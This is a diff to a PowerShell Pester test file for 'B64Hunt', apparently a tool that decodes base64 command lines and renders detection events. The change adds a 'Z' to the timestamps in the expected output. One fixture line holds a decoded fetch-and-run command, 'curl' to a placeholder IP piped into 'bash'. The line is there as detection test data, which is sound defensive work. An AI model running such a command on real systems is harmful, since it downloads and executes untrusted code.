@@ -45,14 +45,14 @@ Describe 'B64Hunt.Format.ps1xml views' {
     }
     It 'shows a CommandEvent as a row and a full list' {
         $table = Render $Event 'Table'
-        $table | Should -Match '2024-05-01 10:00:00 web1\s+1 base64\s+curl http://203\.0\.113\.9/x\.sh \| bash⏎'
+        $table | Should -Match '2024-05-01 10:00:00Z web1\s+1 base64\s+curl http://203\.0\.113\.9/x\.sh \| bash⏎'
         $list = Render $Event 'List'
         foreach ($label in 'TimeGenerated', 'Computer', 'Account', 'Source', 'EventCount', 'Hostnames', 'DecodeChain', 'Categories', 'GtfoBins', 'Iocs', 'TiResults', 'CommandLine', 'EncodedText', 'DecodedCommand') {
             $list | Should -Match "(?m)^$label\s+:"
         }
     }
     It 'shows RelatedAlert, Ioc, TiResult and GtfoBinsTag as tables and lists' {
-        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00 web1\.contoso\.com\s+High\s+Suspicious download'
+        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00Z web1\.contoso\.com\s+High\s+Suspicious download'
         Render $Alert 'List' | Should -Match 'Description\s+: A file was downloaded'
         Render $Ioc 'Table' | Should -Match 'ipv4\s+False\s+203\.0\.113\.9\s+203\.0\.113\[\.\]9'
         Render $Ioc 'List' | Should -Match 'Normalized\s+: 203\.0\.113\.9'
